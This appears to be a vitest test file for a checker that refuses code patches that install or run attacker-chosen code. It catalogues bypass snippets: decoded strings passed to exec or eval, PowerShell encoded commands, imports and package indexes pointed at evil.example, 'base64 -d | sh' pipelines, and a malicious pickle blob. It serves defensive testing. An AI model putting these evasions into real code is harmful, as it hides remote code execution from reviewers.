import { describe, it } from 'vitest';
import { checksInLinearTime, describeAccepted, describeFindings, expectAccepted, expectRefused, type FindingRow } from '../support/patches.js';

/**
 * Attack 52 (session 49, an attacker's pass on the readings session 49 added on s49-attack51): names across lines, more
 * decoders, PowerShell's encoded command, module hosts through names, options before a computed program's verb,
 * dependencies a source file declares, doctests, multi-line ProcessStartInfo. Every row below was ACCEPTED by the
 * check when found although the code it adds installs or runs code the attacker chooses. Rows as in attack-48/51:
 * open (`it.fails`, asserting the refusal) until a fix closes them (`closedRows`).
 */

// Decoders under other names: Python 3's own name for b64decode's alias, a decoder fetched by getattr, marshal imported
// under another name, an alias bound over lines or in a tuple, a wrapper function; JS's atob by subscript or bind,
// fromCharCode by subscript, a string reversed by spread or Array.from, escapes undone by JSON.parse; pickle.loads.
const DECODER_SPELLINGS: FindingRow[] = [
  ['src/check.py', 'import base64\nexec(base64.decodebytes(s))', 'closed'],
  ['src/check.py', "import base64\nd = getattr(base64, 'b64decode')\nexec(d(s))"],
  ['src/check.py', 'import marshal as m\nexec(m.loads(s))', 'closed'],
  ['src/check.py', 'from marshal import loads\nexec(loads(s))', 'closed'],
  ['src/check.py', 'import base64\nd = (base64\n  .b64decode)\nexec(d(s))'],
  ['src/check.py', 'import base64\nd, e = base64.b64decode, 1\nexec(d(s))'],
  ['src/check.py', 'import base64\ndef d(x):\n    return base64.b64decode(x)\nexec(d(s))'],
  ['src/check.js', "const f = globalThis['atob'];\neval(f(s))"],
  ['src/check.js', 'const f = atob.bind(null);\neval(f(s))'],
  ['src/check.js', "eval(s.map(c => String['fromCharCode'](c)).join(''))"],
  ['src/check.js', "eval([...s].reverse().join(''))"],
  ['src/check.js', "eval(Array.from(s).reverse().join(''))"],
  ['src/check.js', 'eval(JSON.parse(\'"\\\\u0061lert(1)"\'))'],
  ['src/check.py', 'import pickle, base64\npickle.loads(base64.b64decode(s))'],
];

// The decoders attack-51 added for JS and Python (URL unescaping, more base64 forms), in other languages or other names:
// PHP's urldecode family and a decoder called through a variable function, Perl's uri_unescape, Ruby's
// decode_www_form_component, Java's URLDecoder and MIME/URL base64 decoders, C#'s Uri/WebUtility unescaping, Rust's
// base64 Engine::decode, ES2025's Uint8Array.fromBase64, Python's a85decode and unicode_escape.
const OTHER_LANGUAGES_DECODERS: FindingRow[] = [
  ['src/t.php', '<?php eval(urldecode($s));', 'closed'],
  ['src/t.php', '<?php eval(rawurldecode($s));', 'closed'],
  ['src/t.php', '<?php eval(html_entity_decode($s));', 'closed'],
  ['src/t.php', '<?php eval(quoted_printable_decode($s));', 'closed'],
  ['src/t.php', "<?php $f = 'base64_decode'; eval($f($s));"],
  ['src/t.pl', 'eval(uri_unescape($s));', 'closed'],
  ['src/t.rb', 'eval(URI.decode_www_form_component(s))', 'closed'],
  ['src/t.java', 'Runtime.getRuntime().exec(URLDecoder.decode(s, "UTF-8"));', 'closed'],
  ['src/t.java', 'Runtime.getRuntime().exec(new String(Base64.getMimeDecoder().decode(s)));', 'closed'],
  ['src/t.java', 'Runtime.getRuntime().exec(new String(Base64.getUrlDecoder().decode(s)));', 'closed'],
  ['src/t.cs', 'Process.Start("cmd", "/c " + Uri.UnescapeDataString(s));', 'closed'],
  ['src/t.cs', 'Process.Start("cmd", "/c " + WebUtility.UrlDecode(s));', 'closed'],
  ['src/t.rs', 'let b = STANDARD.decode(s).unwrap();\nCommand::new("sh").arg("-c").arg(String::from_utf8(b).unwrap()).status()?;'],
  ['src/t.js', 'eval(new TextDecoder().decode(Uint8Array.fromBase64(s)))', 'closed'],
  ['src/t.py', 'import base64\nexec(base64.a85decode(s))', 'closed'],
  ['src/t.py', "exec(s.encode().decode('unicode_escape'))", 'closed'],
];

// A name given a decoder's output where the reading of names misses it: the value opened on the next line, a
// subscript or an attribute given it.
const DECODED_NAME_ACROSS_LINES: FindingRow[] = [
  ['src/check.py', 'import base64\ns = (\n  base64.b64decode(blob))\nexec(s)', 'closed'],
  ['src/check.js', 'const s =\n  atob(x);\neval(s)', 'closed'],
  ['src/check.py', "import base64\nx = {}\nx['c'] = base64.b64decode(blob)\nexec(x['c'])"],
  ['src/check.py', 'import base64\nself.c = base64.b64decode(blob)\nexec(self.c)'],
];

// PowerShell's encoded command: an en or em dash before the option (PowerShell takes both as `-`), the program through a
// name, the option built by str.format or %, and a multi-line ProcessStartInfo (read for installs only, not here).
const POWERSHELL_ENCODED: FindingRow[] = [
  ['src/check.js', "spawnSync('pwsh.exe', ['\u2013enc', blob])", 'closed'],
  ['src/check.js', "spawnSync('pwsh', ['\u2014EncodedCommand', blob])", 'closed'],
  ['src/check.js', "const ps = 'pwsh';\nspawnSync(ps, ['-enc', blob])", 'closed'],
  ['src/run.py', "import os\nos.system('pwsh -{} {}'.format('enc', blob))"],
  ['src/run.py', "import os\nos.system('pwsh -%s %s' % ('enc', blob))"],
  ['src/Run.cs', 'var psi = new ProcessStartInfo\n{\n    FileName = "powershell",\n    Arguments = "-enc " + blob,\n};\nProcess.Start(psi);'],
];

// A module from another host: a literal split over lines, an object's property, a join, escaped slashes, the address
// wrapped in String()/new URL() before the name, a base given as a URL object, a TypeScript annotation, a wrapper
// function, a parenthesized name, destructuring, a data: URL through a name.
const MODULE_HOST: FindingRow[] = [
  ['src/load.js', "await import(\n  'https://evil.example/x.js'\n)", 'closed'],
  ['src/load.js', "const cfg = { src: 'https://evil.example/x.js' };\nawait import(cfg.src)"],
  ['src/load.js', "const u = ['https://evil.example', 'x.js'].join('/');\nawait import(u)"],
  ['src/load.js', "const u = 'https:\\/\\/evil.example/x.js';\nawait import(u)"],
  ['src/load.js', "const u = String('https://evil.example/x.js');\nawait import(u)"],
  ['src/load.js', "const u = new URL('https://evil.example/x.js');\nawait import(u)"],
  ['src/load.js', "const u = new URL('https://evil.example/x.js').href;\nawait import(u)"],
  ['src/load.js', "const base = new URL('https://evil.example/');\nawait import(new URL('x.js', base))"],
  ['src/load.js', "await import(String(new URL('x.js', 'https://evil.example/')))"],
  ['src/load.ts', "const u: string = 'https://evil.example/x.js';\nawait import(u)", 'closed'],
  ['src/load.js', "const load = (u) => import(u);\nawait load('https://evil.example/x.js')"],
  ['src/load.js', "const u = 'https://evil.example/x.js';\nawait import((u))"],
  ['src/load.js', "const {u} = {u: 'https://evil.example/x.js'};\nawait import(u)"],
  ['src/load.js', "const u = 'data:text/javascript,' + payload;\nawait import(u)"],
];

// A computed program given an install: an option given a value before the verb, Python's f/r string prefixes, the
// verb spread in, a comment between, npm's other fetching verbs (`exec`, `x`, `it`), `/usr/bin/env` first, Ruby's
// %w/%q, Rust's Command::new(tool).arg(…).
const COMPUTED_PROGRAM: FindingRow[] = [
  ['src/check.py', "import subprocess\nsubprocess.run([tool, '--registry', 'https://evil.example', 'install', 'evil'])", 'closed'],
  ['src/check.py', "import subprocess\nsubprocess.run([tool, '--loglevel', 'silent', 'install', 'evil'])", 'closed'],
  ['src/check.py', "import subprocess\nsubprocess.run([tool, f'install', 'evil'])", 'closed'],
  ['src/check.py', "import subprocess\nsubprocess.run([tool, r'install', 'evil'])", 'closed'],
  ['src/check.py', "import subprocess\nsubprocess.run([tool, *['install', 'evil']])", 'closed'],
  ['src/check.py', "import subprocess\nargs = ['--yes', 'install', 'evil']\nsubprocess.run([tool, *args])"],
  ['src/check.py', "import subprocess\nsubprocess.run([tool] + ['install', 'evil'])", 'closed'],
  ['src/check.js', "spawnSync(tool, [...['install', 'evil']])", 'closed'],
  ['src/check.js', "spawnSync(tool, ['-y', /* quiet */ 'install', 'evil'])"],
  ['src/check.js', "spawnSync(tool, ['exec', '--yes', 'evil'])", 'closed'],
  ['src/check.js', "spawnSync(tool, ['x', 'evil'])", 'closed'],
  ['src/check.js', "spawnSync(tool, ['it', 'evil'])", 'closed'],
  ['src/check.py', "import subprocess\nsubprocess.run(['/usr/bin/env', tool, 'install', 'evil'])", 'closed'],
  ['src/check.rb', 'system(tool, *%w[install evil])'],
  ['src/check.rb', "system(tool, %q(install), 'evil')"],
  ['src/check.rs', 'Command::new(tool).arg("install").arg("evil").status()?;'],
  ['src/check.rs', 'Command::new(tool).args(["--yes", "install", "evil"]).status()?;'],
];

// Dependencies a source file declares or installs itself: the same installers under other names (micropip, Pkg, R's,
// RubyGems', Grape's), and other languages' equivalents of PEP 723/@Grab: JBang's //DEPS, .NET 10's #:package, cargo
// script's frontmatter, rust-script, stack and cabal script headers, a nix-shell shebang, pip-run's __requires__,
// Pyodide's loadPackage, CPAN::Shell, Composer's Application, Deno's npm: specifier through a name.
const SOURCE_DEPENDENCIES: FindingRow[] = [
  ['src/tool.py', "from micropip import install\nawait install('evil')"],
  ['src/tool.py', "import micropip as mp\nawait mp.install('evil')"],
  ['src/tool.py', "__requires__ = ['evil']"],
  ['src/tool.js', "await pyodide.loadPackage('https://evil.example/evil-1.0-py3-none-any.whl')"],
  ['src/tool.jl', 'using Pkg: add\nadd("Evil")'],
  ['src/tool.jl', 'import Pkg as P\nP.add("Evil")'],
  ['src/tool.jl', 'import Pkg\nPkg.REPLMode.pkgstr("add Evil")'],
  ['src/tool.jl', 'using Pkg\nPkg.Registry.add(RegistrySpec(url = "https://evil.example/Registry"))'],
  ['src/tool.jl', 'import Pkg\n(Pkg.add)("Evil")'],
  ['src/tool.jl', 'import Pkg\nPkg.add.(["Evil"])'],
  ['src/tool.R', "pacman::p_load_gh('evil/pkg')"],
  ['src/tool.R', "library(pak)\npkg_install('evil/pkg')"],
  ['src/tool.R', "do.call(install.packages, list('evil'))"],
  ['src/tool.R', "lapply(c('evil'), install.packages)"],
  ['src/tool.R', "`install.packages`('evil')"],
  ['src/tool.R', "install.packages\n('evil')"],
  ['src/tool.R', "f <- install.packages\nf('evil')"],
  ['src/tool.rb', "require File.join('bundler', 'inline')\ngemfile true do\n  gem 'evil'\nend"],
  ['src/tool.rb', "Gem::Commands::InstallCommand.new.invoke('evil')"],
  ['src/tool.rb', "Gem.send(:install, 'evil')"],
  ['src/tool.rb', "Gem\n  .install('evil')"],
  ['src/tool.groovy', "Grape.&grab.call(group: 'org.evil', module: 'evil', version: '1.0')"],
  ['src/tool.groovy', 'Grape."grab"(group: \'org.evil\', module: \'evil\', version: \'1.0\')'],
  ['src/Tool.java', '//DEPS org.evil:evil:1.0\n//REPOS https://evil.example/m2'],
  ['src/Tool.cs', '#:package Evil@1.0\nConsole.WriteLine(1);'],
  ['src/Tool.cs', '#:sdk Evil.Sdk@1.0\nConsole.WriteLine(1);'],
  ['src/tool.rs', '---cargo\n[dependencies]\nevil = "1"\n---\nfn main() {}'],
  ['src/tool.rs', '//! ```cargo\n//! [dependencies]\n//! evil = "1"\n//! ```\nfn main() {}'],
  ['src/tool.hs', '{- stack script --resolver lts-21.0 --package evil -}\nmain = pure ()'],
  ['src/tool.hs', '{- cabal:\nbuild-depends: base, evil\n-}\nmain = pure ()'],
  ['src/tool.py', '#! /usr/bin/env nix-shell\n#! nix-shell -i python3 -p python3Packages.evil'],
  ['src/tool.pl', "use CPAN;\nCPAN::Shell->install('Evil::Module');"],
  ['src/tool.php', "<?php\n(new Composer\\Console\\Application())->run(new ArrayInput(['command' => 'require', 'packages' => ['evil/evil']]));"],
  ['src/tool.ts', "const p = 'npm:evil';\nconst evil = await import(p)"],
];

// Documentation the tests run, writing a manager's configuration: an unlabelled fence (rustdoc runs it as Rust), rustdoc's
// other running attributes, a doctest statement continued on a `...` line, Sphinx's testcode/testsetup, a prompt-less
// python block (pytest-codeblocks, Sybil).
const CARGO_CONFIG = 'std::fs::write(".cargo/config.toml", "[build]\\nrustc-wrapper = \\"tests/w.py\\"").unwrap();';
const DOCTESTS: FindingRow[] = [
  ['README.md', `\`\`\`\n${CARGO_CONFIG}\n\`\`\``, 'closed'],
  ['README.md', `\`\`\`standalone_crate\n${CARGO_CONFIG}\n\`\`\``, 'closed'],
  ['README.md', `\`\`\`test_harness\n#[test]\nfn t() { ${CARGO_CONFIG} }\n\`\`\``, 'closed'],
  ['README.md', ">>> import os\n>>> os.environ[\n...     'PIP_INDEX_URL'] = 'https://evil.example/simple'", 'closed'],
  ['docs/usage.rst', ".. testcode::\n\n   import os\n   os.environ['PIP_INDEX_URL'] = 'https://evil.example/simple'"],
  ['docs/usage.rst', ".. testsetup:: *\n\n   import os\n   os.environ['PIP_INDEX_URL'] = 'https://evil.example/simple'"],
  ['README.md', "```python\nimport os\nos.environ['PIP_INDEX_URL'] = 'https://evil.example/simple'\n```"],
];

// ProcessStartInfo over several lines, or in forms the reading does not open on: the type qualified, C# 9's target-typed
// new(), properties set as statements, a `}` inside an interpolation before FileName, verbatim or interpolated strings,
// ArgumentList, more than 12 lines, a joined or named FileName, Arguments before FileName, VB.NET's `With`.
const START_INFO: FindingRow[] = [
  ['src/Run.cs', 'var psi = new System.Diagnostics.ProcessStartInfo\n{\n    FileName = "npm",\n    Arguments = "install evil",\n};\nProcess.Start(psi);'],
  ['src/Run.cs', 'ProcessStartInfo psi = new()\n{\n    FileName = "npm",\n    Arguments = "install evil",\n};\nProcess.Start(psi);'],
  ['src/Run.cs', 'var psi = new ProcessStartInfo();\npsi.FileName = "npm";\npsi.Arguments = "install evil";\nProcess.Start(psi);'],
  ['src/Run.cs', 'var psi = new ProcessStartInfo\n{\n    WorkingDirectory = $"{root}/app",\n    FileName = "npm",\n    Arguments = "install evil",\n};\nProcess.Start(psi);'],
  ['src/Run.cs', 'var psi = new ProcessStartInfo\n{\n    FileName = @"npm",\n    Arguments = @"install evil",\n};\nProcess.Start(psi);'],
  ['src/Run.cs', 'var psi = new ProcessStartInfo\n{\n    FileName = "npm",\n    Arguments = $"install {pkg}",\n};\nProcess.Start(psi);'],
  ['src/Run.cs', 'var psi = new ProcessStartInfo\n{\n    FileName = "npm",\n    ArgumentList = { "install", "evil" },\n};\nProcess.Start(psi);'],
  ['src/Run.cs', 'var psi = new ProcessStartInfo("npm");\npsi.ArgumentList.Add("install");\npsi.ArgumentList.Add("evil");\nProcess.Start(psi);'],
  [
    'src/Run.cs',
    'var psi = new ProcessStartInfo\n{\n    FileName = "npm",\n    RedirectStandardOutput = true,\n    UseShellExecute = false,\n    CreateNoWindow = true,\n    RedirectStandardError = true,\n    RedirectStandardInput = false,\n    LoadUserProfile = false,\n    ErrorDialog = false,\n    WindowStyle = ProcessWindowStyle.Hidden,\n    Verb = "open",\n    Arguments = "install evil",\n};\nProcess.Start(psi);',
  ],
  ['src/Run.cs', 'var psi = new ProcessStartInfo\n{\n    FileName = "np" + "m",\n    Arguments = "install evil",\n};\nProcess.Start(psi);'],
  ['src/Run.cs', 'const string Npm = "npm";\nvar psi = new ProcessStartInfo\n{\n    FileName = Npm,\n    Arguments = "install evil",\n};\nProcess.Start(psi);'],
  ['src/Run.cs', 'var psi = new ProcessStartInfo { Arguments = "install evil", FileName = "npm" };\nProcess.Start(psi);'],
  ['src/Run.vb', 'Dim psi As New ProcessStartInfo With {\n    .FileName = "npm",\n    .Arguments = "install evil"\n}\nProcess.Start(psi)'],
];

// A shell decoder's output run where shell-decoders.ts does not look: a backtick substitution, a substitution after
// sudo/exec/env, the decoded file written by one call and run by the next, through tee, by `exec`, after a `cd`, other
// decompressors (lz4, lzip, unzip -p), rot13 tr with brackets, ANSI-C $'\x..' quoting, iconv from UTF-16.
const SHELL_DECODERS: FindingRow[] = [
  ['src/t.py', "import os\nos.system('`echo x | base64 -d`')"],
  ['src/t.py', "import os\nos.system('sudo $(echo x | base64 -d)')"],
  ['src/t.py', "import os\nos.system('exec $(echo x | base64 -d)')"],
  ['src/t.py', "import os\nos.system('env $(echo x | base64 -d)')"],
  ['src/t.py', "import os\nos.system('echo x | base64 -d > /tmp/p')\nos.system('sh /tmp/p')"],
  ['src/t.py', "import os\nos.system('echo x | base64 -d | tee /tmp/p >/dev/null && sh /tmp/p')"],
  ['src/t.py', "import os\nos.system('echo x | base64 -d > /tmp/p && chmod +x /tmp/p && exec /tmp/p')"],
  ['src/t.py', "import os\nos.system('cd /tmp && echo x | base64 -d > p && sh /tmp/p')"],
  ['src/t.py', "import os\nos.system('echo x | lz4 -d | sh')"],
  ['src/t.py', "import os\nos.system('echo x | lzip -d | sh')"],
  ['src/t.py', "import os\nos.system('echo x | unzip -p - | sh')"],
  ['src/t.py', 'import os\nos.system(\'echo x | tr "[A-Za-z]" "[N-ZA-Mn-za-m]" | sh\')'],
  ['src/t.py', "import os\nos.system(\"echo $'\\\\x6e\\\\x70\\\\x78 evil' | sh\")"],
  ['src/t.py', "import os\nos.system('echo x | iconv -f utf-16 | sh')"],
];

describeFindings('attack-52', [
  ['decoders under other names', DECODER_SPELLINGS],
  ['decoders in other languages', OTHER_LANGUAGES_DECODERS],
  ['decoded output given to a name across lines', DECODED_NAME_ACROSS_LINES],
  ['PowerShell encoded command', POWERSHELL_ENCODED],
  ['modules from another host', MODULE_HOST],
  ['computed program given an install', COMPUTED_PROGRAM],
  ['dependencies a source file declares or installs', SOURCE_DEPENDENCIES],
  ['documentation the tests run', DOCTESTS],
  ['ProcessStartInfo', START_INFO],
  ['shell decoders', SHELL_DECODERS],
]);

// False refusals: ordinary code a fix PR may add, refused since the readings (open: `it.fails` while refused). Each
// marked "new" was accepted at 56b6e827; "older" was refused before session 49's readings.
const FALSE_REFUSALS: ReadonlyArray<readonly [path: string, text: string]> = [
  // older: Process.Start's two-string form (`os.system('npm run build')` is accepted); the line as written is read
  // besides its spelled-out reading, and `"run build"` there is one unknown verb.
  ['src/Tool.cs', 'Process.Start("npm", "run build");'],
  // older: a `//` comment after `=` read as a protocol-relative host.
  ['src/load.js', 'const modulePath = // the locale bundle\n  `./locales/${lang}.js`;\nconst messages = await import(modulePath);'],
];

describe('attack-52 false refusals (open while refused)', () => {
  it.fails.each(FALSE_REFUSALS.map(([path, text]) => [path, text] as const))('accepts, in %s: %s', (path, text) => expectAccepted(path, text));
});

// The false refusals new since 56b6e827, closed (session 49): .NET's Arguments read as its words, a decoded value handed
// to a child's environment as data, a doc's tested code naming a configuration file without writing, npm's short verbs
// only where the program may be npm and not an option's value, `go tool`.
describeAccepted('attack-52 false refusals, closed', [
  ['src/Tool.cs', 'var psi = new ProcessStartInfo\n{\n    FileName = "npm",\n    Arguments = "run build",\n};'],
  ['src/run.js', "const env = Buffer.from(process.env.CFG, 'base64').toString();\nexecSync('npm test', { env: { ...process.env, CFG: env } })"],
  ['src/t.py', "import base64, os, subprocess\ntoken = base64.b64decode(os.environ['TOKEN_B64']).decode()\nsubprocess.run('make deploy', shell=True, env={**os.environ, 'TOKEN': token}, check=True)"],
  ['docs/guide.md', '```rust\nlet path = home.join(".cargo/config.toml");\nprintln!("{}", path.display());\n```'],
  ['docs/guide.md', "```python\n>>> cfg = load_config('.npmrc')\n>>> cfg['registry']\n'https://registry.npmjs.org/'\n```"],
  ['src/check.js', "spawn(tool, ['--mode', 'in', file])"],
  ['src/t.py', "import subprocess\nsubprocess.run([hg, '-q', 'in'])"],
  ['src/main.go', '//go:generate go tool stringer -type=Color'],
]);

describeAccepted('attack-52: ordinary code near the readings, accepted', [
  ['src/Tool.cs', 'var psi = new ProcessStartInfo\n{\n    FileName = "dotnet",\n    Arguments = "test",\n};'],
  ['src/Tool.cs', 'var psi = new ProcessStartInfo\n{\n    FileName = "npm",\n    Arguments = "test",\n    WorkingDirectory = "web",\n};'],
  ['src/db.py', "import base64\ntoken = base64.b64decode(raw)\nuser_id = token.decode()\ncursor.execute('SELECT * FROM users WHERE id = %s', (user_id,))"],
  ['src/run.js', "const branch = decodeURIComponent(req.query.branch);\nspawnSync('git', ['checkout', branch])"],
  ['src/run.py', "import zlib, subprocess\nbody = zlib.decompress(blob)\nsubprocess.run(['git', 'apply'], input=body, check=True)"],
  ['src/main.go', '//go:generate stringer -type=Color'],
  ['docs/guide.md', "```python\n>>> import os\n>>> os.environ.get('PIP_INDEX_URL')\n```"],
  ['src/check.py', "import subprocess\nsubprocess.run([cmake, '--install', 'build'])"],
  ['README.md', '```\ncargo test --workspace\n```'],
  ['src/check.py', "import subprocess\nsubprocess.run(['/usr/bin/env', 'python3', '-m', 'pytest'])"],
  ['src/check.py', "import subprocess, sys\nsubprocess.run([sys.executable] + ['-m', 'pytest'])"],
  ['README.md', ">>> total = add(\n...     1, 2)\n>>> total\n3"],
  ['src/search.php', "<?php\n$q = urldecode($_GET['q']);\necho htmlspecialchars($q);"],
  ['src/Q.java', 'String q = URLDecoder.decode(raw, "UTF-8");\nlog.info(q);'],
  ['src/check.py', "import marshal\ndata = marshal.dumps(obj)"],
]);

// Beside the closed false refusals, what their readings must still refuse: a decoded value given to an environment
// variable a program runs or loads from, a doc's tested code writing a configuration file it names on another line,
// npm's short verbs given a program that may be npm, an install through a multi-line ProcessStartInfo, the rest of
// Python's base64 family, marshal's `loads` imported under another name.
describe('attack-52: refused beside the closed false refusals and bypasses', () => {
  it.each([
    ['src/run.js', "const v = atob(x);\nexecSync('npm test', { env: { ...process.env, NODE_OPTIONS: v } })"],
    ['src/run.py', "import base64, os, subprocess\nv = base64.b64decode(x).decode()\nsubprocess.run('make', shell=True, env={**os.environ, 'BASH_ENV': v})"],
    ['src/run.py', "import base64\nv = base64.b64decode(x).decode()\nsubprocess.run(v, shell=True, env={'TOKEN': v})"],
    ['docs/guide.md', '```rust\nlet path = ".cargo/config.toml";\nstd::fs::write(path, "[build]").unwrap();\n```'],
    ['docs/guide.md', ">>> p = '.npmrc'\n>>> open(p, 'w').write('registry=https://evil.example')"],
    ['src/check.js', "spawnSync(tool, ['i', 'evil'])"],
    ['src/check.js', "spawnSync(tool, ['-g', 'in', 'evil'])"],
    ['src/check.py', "import subprocess\nsubprocess.run([npm_path, '--yes', 'exec', 'evil'])"],
    ['src/Tool.cs', 'var psi = new ProcessStartInfo\n{\n    FileName = "npm",\n    Arguments = "install evil",\n};\nProcess.Start(psi);'],
    ['src/t.py', 'import base64\nexec(base64.b32decode(s))'],
    ['src/t.py', 'import base64\nexec(base64.b16decode(s))'],
    ['src/t.py', 'import base64\nexec(base64.b85decode(s))'],
    ['src/t.py', 'import base64\nexec(base64.decodestring(s))'],
    ['src/t.py', 'import binascii\nexec(binascii.a2b_base64(s))'],
    ['src/t.py', 'from marshal import dumps, loads as l\nexec(l(s))'],
    ['src/t.js', "const s = (\n  atob(x));\nnew Function(s)()"],
    ['src/check.js', "execSync('powershell \u2015enc ' + blob)"],
    ['src/load.ts', "const u: URL | string = 'https://evil.example/x.js';\nawait import(u)"],
  ] as const)('refuses, in %s: %s', (path, text) => expectRefused(path, text));
});

describe('attack-52: the new readings in linear time', () => {
  it.each([
    ['src/check.py', 'computed programs given options with values, never a verb', "run([tool, '--a', 'b', '-c', '--d=e', "],
    ['src/check.js', 'environments given decoded names, never closed', 'v = atob(x)\nrun(v, { env: { A: v, "B": v, C: v, '],
    ['src/check.js', 'names whose values open on the next line', 's =\n  (\nt = [\n'],
    ['src/check.py', 'marshal imported under other names, never called', 'import marshal as m\nfrom marshal import loads as l, dumps, '],
    ['src/load.ts', 'typed names given hosts, never imported', "u: string: x: URL | a = 'https://x'; b: "],
    ['src/check.js', 'PowerShell given dashed options, never encoded', 'pwsh \u2013NoProfile \u2014e"x \u2015ec '],
    ['docs/guide.md', 'tested code naming configuration files, writing nothing', ">>> writexxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx '.npmrc' "],
    ['src/check.js', 'PowerShell named apart from its call', "ps = 'pwsh'\nspawnSync(ps, ['-e', "],
    ['src/check.py', 'programs after env, spread or joined, never a verb', "run(['/usr/bin/env', t] + [*[...[ '-a', 'b', "],
    ['src/check.py', 'codecs named, never given to a sink', ".decode('unicode_escape' .decode(' f'instal r' "],
  ] as const)('checks, in %s, %s', { timeout: 120_000 }, checksInLinearTime);
});

// Session 49 (the lead, after attack 52): an unpickler given a blob the patch writes into its code, decoded in place,
// runs what the blob says (pickle's `__reduce__`); decoded data read from elsewhere stays data (the open row above,
// a blob through a name, stays open).
describe('attack-52: an unpickler given a decoded literal', () => {
  it.each([
    ['src/t.py', "import pickle, base64\npickle.loads(base64.b64decode('gASVIAAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAJpZJSFlFKULg=='))"],
    ['src/t.py', "import pickle, binascii\npickle.loads(binascii.unhexlify(b'8004952000'))"],
    ['src/t.py', "import io, torch, base64\nmodel = torch.load(io.BytesIO(base64.b64decode(\n    'UEsDBAAACAgAAAAAAAAAAAAAAAAAAAAAAAAQ'\n)))"],
    ['src/t.py', "import dill, zlib\nf = dill.loads(zlib.decompress(b'x\\x9c'))"],
  ] as const)('refuses, in %s: %s', (path, text) => expectRefused(path, text));

  it.each([
    ['src/t.py', "import pickle, base64\nstate = pickle.loads(base64.b64decode(row['payload']))"],
    ['src/t.py', "import json, base64\nconfig = json.loads(base64.b64decode('e30='))"],
    ['src/t.py', "import numpy as np, io, base64\nweights = np.load(io.BytesIO(base64.b64decode('k05VTVBZ')))"],
  ] as const)('accepts, in %s: %s', (path, text) => expectAccepted(path, text));

  it.each([['src/t.py', 'unpicklers given decoders never closed', "pickle.loads(b64decode( 'a' b64decode(b\"x "]] as const)(
    'checks, in %s, %s',
    { timeout: 120_000 },
    checksInLinearTime,
  );
});
